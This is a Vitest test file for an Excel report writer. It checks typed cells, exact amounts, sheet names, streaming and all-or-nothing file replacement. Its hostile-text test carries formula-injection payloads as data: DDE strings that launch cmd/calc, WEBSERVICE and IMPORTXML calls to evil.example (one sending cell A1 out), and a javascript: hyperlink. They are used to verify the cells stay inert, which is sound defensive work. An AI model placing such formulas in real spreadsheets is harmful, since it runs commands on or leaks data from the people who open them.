import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { writeWorkbook } from "@adapters/workbook";
import type { CellValue, ColumnKind, WorkbookDefinition } from "@domain/reports/sheet";
import ExcelJS from "exceljs";
import { afterAll, beforeEach, describe, expect, it, vi } from "vitest";
import { readZip } from "./zip";

const faults = vi.hoisted(() => ({ device: null as string | null, renameCode: null as string | null }));
vi.mock("node:fs/promises", async (original) => {
  const fs = await original<typeof import("node:fs/promises")>();
  return {
    ...fs,
    // a disk that is full: the kernel itself answers ENOSPC
    open: (path: string, flags: string) =>
      faults.device ? fs.open(faults.device, "w") : fs.open(path, flags),
    // a target somebody holds open on Windows
    rename: (from: string, to: string) =>
      faults.renameCode
        ? Promise.reject(Object.assign(new Error("held"), { code: faults.renameCode, syscall: "rename" }))
        : fs.rename(from, to),
  };
});

const root = await mkdtemp(join(tmpdir(), "workbook-"));
let folder = root;
let count = 0;
beforeEach(async () => {
  folder = join(root, String(count++));
  await mkdir(folder);
  faults.device = null;
  faults.renameCode = null;
});
afterAll(() => rm(root, { recursive: true }));

const workbookOf = (
  kinds: ColumnKind[],
  rows: Iterable<CellValue[]> | AsyncIterable<CellValue[]>,
  name = "Mutasi",
): WorkbookDefinition => ({
  title: "Uji",
  filters: "semua",
  generatedAtUtc: "2026-11-23T10:05:00Z",
  generatedBy: "sari",
  sheets: [{ name, columns: kinds.map((kind) => ({ header: `Kolom ${kind}`, kind, width: 20 })), rows }],
});
const target = () => join(folder, "laporan.xlsx");
async function written(definition: WorkbookDefinition, options = {}): Promise<ExcelJS.Workbook> {
  const result = await writeWorkbook(target(), definition, options);
  if (!result.ok) throw new Error(result.error.message);
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(target());
  return book;
}
/** Undoes the escape of ECMA-376 (ST_Xstring), which Excel does and exceljs does not for inline text. */
const asExcelShows = (value: unknown) =>
  String(value).replace(/_x([0-9A-F]{4})_/g, (_, code: string) =>
    String.fromCharCode(Number.parseInt(code, 16)),
  );
const ENTITIES: Record<string, string> = { lt: "<", gt: ">", amp: "&", quot: '"', apos: "'" };
const decodeEntities = (xml: string) => xml.replace(/&(\w+);/g, (_, name: string) => ENTITIES[name] ?? "?");
const firstSheet = (book: ExcelJS.Workbook) => book.worksheets[0] as ExcelJS.Worksheet;

it("writes typed cells, a frozen header, a filter, widths and properties", async () => {
  const rows: CellValue[][] = [
    ["3201234567890123", 5_010_450, "2026-02-28", "2026-12-31T17:00:00Z", 7],
    [null, -1, null, null, null],
  ];
  const book = await written(workbookOf(["text", "money", "date", "instant", "integer"], rows));
  const sheet = firstSheet(book);
  expect(sheet.getRow(1).values).toEqual([
    undefined,
    "Kolom text",
    "Kolom money",
    "Kolom date",
    "Kolom instant",
    "Kolom integer",
  ]);
  expect(sheet.getCell("A2").value).toBe("3201234567890123");
  expect(sheet.getCell("B2").value).toBe(50_104.5);
  expect(sheet.getCell("B2").numFmt).toBe("#,##0.00");
  expect(sheet.getCell("C2").value).toEqual(new Date("2026-02-28T00:00:00Z"));
  expect(sheet.getCell("D2").value).toEqual(new Date("2027-01-01T00:00:00Z"));
  expect(sheet.getCell("E2").value).toBe(7);
  expect([sheet.getCell("A3").value, sheet.getCell("B3").value]).toEqual([null, -0.01]);
  expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
  expect(sheet.autoFilter).toBe("A1:E3");
  expect(sheet.getColumn(1).width).toBe(20);
  expect(book).toMatchObject({ title: "Uji", description: "semua", creator: "sari" });
  expect(book.created).toEqual(new Date("2026-11-23T10:05:00Z"));
});

const LEADS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\n=",
  "＝",
  "＋",
  "－",
  "＠",
  " =",
  "   +",
  "'=",
  '"=',
  "=+",
  "\u00a0=",
];
const BODIES = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","klik")',
  'WEBSERVICE("http://evil.example/?"&A1)',
  'DDE("cmd";"/C calc")',
  'IMPORTXML("http://evil.example")',
  "SUM(1;1)*cmd",
  "62812345678",
  "-50000",
  "<f>1+1</f>",
  "]]><f>1</f>",
  "&amp;&#61;1+1",
  "_x003D_1+1",
  "_x0000_",
  '{"formula":"1+1"}',
];

it("keeps 1,000 hostile texts inert and unchanged", async () => {
  const texts = Array.from({ length: 1000 }, (_, index) => {
    const lead = LEADS[index % LEADS.length] ?? "";
    const body = BODIES[Math.floor(index / LEADS.length) % BODIES.length] ?? "";
    return `${lead}${body} ${index < 500 ? "" : `baris ${index} `}`;
  });
  const sheet = firstSheet(
    await written(
      workbookOf(
        ["text"],
        texts.map((text) => [text]),
      ),
    ),
  );
  const read = texts.map((_, index) => sheet.getCell(index + 2, 1));
  // exceljs decodes entities twice when it reads, so the words themselves are taken from the file
  expect(
    read.flatMap((cell) => (String(cell.value).includes("&") ? [] : [asExcelShows(cell.value)])),
  ).toEqual(texts.filter((text) => !text.includes("&")));
  expect(new Set(read.map((cell) => cell.type))).toEqual(new Set([ExcelJS.ValueType.String]));
  expect(new Set(read.map((cell) => cell.numFmt))).toEqual(new Set(["@"]));
  const files = await readZip(target());
  const xml = files.get("xl/worksheets/sheet1.xml") ?? "";
  const stored = [...xml.matchAll(/<c r="A\d+" s="\d+" t="str"><v>([^<]*)<\/v><\/c>/g)].slice(1);
  expect(stored.map(([, value]) => asExcelShows(decodeEntities(value ?? "")))).toEqual(texts);
  expect(xml.match(/<f[ >/]/g)).toBeNull();
  expect(xml).not.toContain("<hyperlink");
  expect([...files.keys()].filter((name) => /externalLink|sheet1\.xml\.rels|vba/i.test(name))).toEqual([]);
});

it("shows what XML cannot carry instead of losing it", async () => {
  const texts: [string, string][] = [
    ["\u0000=1+1", "␀=1+1"],
    ["\r=1+1", "␍=1+1"],
    ["a\u0008b\u001bc\u007fd", "a␈b␛c␡d"],
    ["satu\r\ndua\tx", "satu\ndua\tx"],
    ["lone \ud800 end", "lone \ufffd end"],
    ["\uffff", "\ufffd"],
    ["emoji 😀", "emoji 😀"],
  ];
  const sheet = firstSheet(
    await written(
      workbookOf(
        ["text"],
        texts.map(([text]) => [text]),
      ),
    ),
  );
  expect(texts.map((_, index) => sheet.getCell(index + 2, 1).value)).toEqual(texts.map(([, shown]) => shown));
});

it("cuts what exceeds a cell with a mark", async () => {
  const value = firstSheet(await written(workbookOf(["text"], [["a".repeat(40_000)]]))).getCell("A2").value;
  expect(String(value)).toHaveLength(32_767);
  expect(String(value).endsWith("a …")).toBe(true);
});

it("keeps every amount exact", async () => {
  const amounts = [
    0, 1, -1, 99, 100, 2_082_659_994, 999_999_999_999_999, -999_999_999_999_999, 900_719_925_474_000,
  ];
  for (let sen = 1; sen < 1e15; sen = sen * 3 + 7) amounts.push(sen, -sen);
  const sheet = firstSheet(
    await written(
      workbookOf(
        ["money"],
        amounts.map((amount) => [amount]),
      ),
    ),
  );
  const back = amounts.map((_, index) =>
    BigInt((sheet.getCell(index + 2, 1).value as number).toFixed(2).replace(".", "")),
  );
  expect(back).toEqual(amounts.map(BigInt));
});

describe("refused, with the place, and nothing written", () => {
  const hostile = { formula: "1+1" } as unknown as CellValue;
  const cases: [string, ColumnKind, unknown, string][] = [
    ["a formula object", "text", hostile, "bad-cell"],
    ["a link object", "text", { text: "x", hyperlink: "javascript:alert(1)" }, "bad-cell"],
    ["a rich text object", "text", { richText: [] }, "bad-cell"],
    ["an object for money", "money", hostile, "bad-cell"],
    ["an object for a date", "date", hostile, "bad-cell"],
    ["an array", "text", ["x"], "bad-cell"],
    ["a String object", "text", Object("x"), "bad-cell"],
    ["a number for text", "text", 1, "bad-cell"],
    ["a truth value", "integer", true, "bad-cell"],
    ["half a sen", "money", 0.5, "bad-cell"],
    ["an amount as text", "money", "5000000", "bad-cell"],
    ["not a number", "money", Number.NaN, "bad-cell"],
    ["a big integer", "integer", 2 ** 53, "bad-cell"],
    ["30 February", "date", "2026-02-30", "bad-cell"],
    ["an instant without a zone", "instant", "2026-02-28T10:00:00", "bad-cell"],
    ["an amount of 16 digits", "money", 9_007_199_254_740_991, "amount-not-exact"],
    ["a formula as a date", "date", "=1+1", "bad-cell"],
  ];
  it.each(cases)("%s", async (_name, kind, value, code) => {
    const rows = [[null], [value as CellValue]];
    const result = await writeWorkbook(target(), workbookOf([kind], rows));
    expect(result).toMatchObject({ ok: false, error: { code } });
    if (!result.ok) expect(result.error.message).toContain(`row 3, column "Kolom ${kind}" of "Mutasi"`);
    expect(await readdir(folder)).toEqual([]);
  });

  it("a row that is too long", async () => {
    expect(await writeWorkbook(target(), workbookOf(["text"], [["a", "b"]]))).toMatchObject({
      error: { code: "bad-cell" },
    });
  });
});

it("gives sheets names Excel takes, no two alike", async () => {
  const definition = workbookOf(["text"], [["a"]]);
  const [sheet] = definition.sheets;
  const names = [
    "Mutasi [1/2]: *?",
    "mutasi 1 2",
    "'",
    "",
    "History",
    "x".repeat(40),
    `${"x".repeat(40)}y`,
    "\u0000",
  ];
  const book = await written({
    ...definition,
    sheets: names.map((name) => ({ ...sheet, name }) as typeof sheet & object),
  });
  const read = book.worksheets.map((one) => one.name);
  expect(read).toHaveLength(names.length);
  expect(new Set(read.map((name) => name.toLowerCase())).size).toBe(names.length);
  for (const name of read) expect(name).toMatch(/^(?!')[^*?:\\/[\]]{1,31}(?<!')$/);
  expect(read[0]).toBe("Mutasi 1 2");
});

it("goes on in a further sheet when one is full", async () => {
  const rows = Array.from({ length: 25 }, (_, index) => [index]);
  const book = await written(workbookOf(["integer"], rows), { maxRowsPerSheet: 11 });
  expect(book.worksheets.map((sheet) => [sheet.name, sheet.rowCount])).toEqual([
    ["Mutasi", 11],
    ["Mutasi (2)", 11],
    ["Mutasi (3)", 6],
  ]);
  expect(book.worksheets[2]?.getCell("A6").value).toBe(24);
});

it("takes rows that arrive one by one and reports how far it is", async () => {
  const progress: number[] = [];
  async function* rows() {
    for (let index = 0; index < 2500; index++) yield [`baris ${index}`];
  }
  const book = await written(workbookOf(["text"], rows()), {
    onProgress: (done: number) => progress.push(done),
  });
  expect(progress).toEqual([1000, 2000]);
  expect(firstSheet(book).getCell("A2501").value).toBe("baris 2499");
});

describe("whole or not at all", () => {
  const rows = Array.from({ length: 5000 }, (_, index) => [`baris ${index} ${"isi ".repeat(20)}`]);
  const old = "laporan lama";

  it("replaces an older file only when the new one is complete", async () => {
    await writeFile(target(), old);
    const failing = (function* () {
      yield ["a"];
      throw new Error("database lost");
    })();
    await expect(writeWorkbook(target(), workbookOf(["text"], failing))).rejects.toThrow("database lost");
    expect(await readFile(target(), "utf8")).toBe(old);
    expect(await readdir(folder)).toEqual(["laporan.xlsx"]);
    expect((await writeWorkbook(target(), workbookOf(["text"], rows))).ok).toBe(true);
    expect(await readdir(folder)).toEqual(["laporan.xlsx"]);
  });

  it.runIf(process.platform === "linux")("a full disk is one clear error", async () => {
    await writeFile(target(), old);
    faults.device = "/dev/full";
    const result = await writeWorkbook(target(), workbookOf(["text"], rows));
    expect(result).toMatchObject({ ok: false, error: { code: "disk-full" } });
    expect(await readFile(target(), "utf8")).toBe(old);
  });

  it.each([
    ["EBUSY", "locked"],
    ["EPERM", "locked"],
    ["EIO", "unwritable"],
  ])("a target that answers %s is %s", async (renameCode, code) => {
    await writeFile(target(), old);
    faults.renameCode = renameCode;
    expect(await writeWorkbook(target(), workbookOf(["text"], rows))).toMatchObject({
      ok: false,
      error: { code },
    });
    expect(await readdir(folder)).toEqual(["laporan.xlsx"]);
    expect(await readFile(target(), "utf8")).toBe(old);
  });

  it("a missing folder and a folder in the way are named", async () => {
    const missing = await writeWorkbook(join(folder, "tidak-ada", "x.xlsx"), workbookOf(["text"], rows));
    expect(missing).toMatchObject({ error: { code: "no-folder" } });
    await mkdir(target());
    expect(await writeWorkbook(target(), workbookOf(["text"], rows))).toMatchObject({
      error: { code: "unwritable" },
    });
    expect(await readdir(folder)).toEqual(["laporan.xlsx"]);
  });

  it("can be cancelled and leaves nothing", async () => {
    const stop = new AbortController();
    const result = await writeWorkbook(target(), workbookOf(["text"], rows), {
      signal: stop.signal,
      onProgress: () => stop.abort(),
    });
    expect(result).toMatchObject({ ok: false, error: { code: "cancelled" } });
    expect(await readdir(folder)).toEqual([]);
  });
});
